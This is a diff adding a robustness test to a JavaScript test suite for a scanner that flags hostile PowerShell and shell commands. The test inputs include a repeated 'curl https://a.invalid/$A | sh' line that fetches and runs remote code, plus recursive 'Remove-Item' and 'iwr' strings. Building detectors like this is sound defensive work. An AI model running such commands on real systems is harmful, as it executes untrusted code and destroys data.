@@ -174,4 +174,12 @@ test('PowerShell is searched', () => {
   assert.equal(powershellSignals('Get-Content x.txt | Write-Host', { file: 'x.ps1', line: 1 }), [])
 })
 
+test('long and hostile texts end', () => {
+  for (const text of ['Remove-Item -Recurse '.repeat(5000), 'iwr\n'.repeat(100_000), 'a'.repeat(900_000)]) {
+    powershellSignals(text, { file: 'x.ps1', line: 1 })
+  }
+  assert.is(signals('curl https://a.invalid/$A | sh;'.repeat(2000)).length, 4000)
+  signals(`${'a | '.repeat(10_000)}sh`)
+})
+
 test.run()
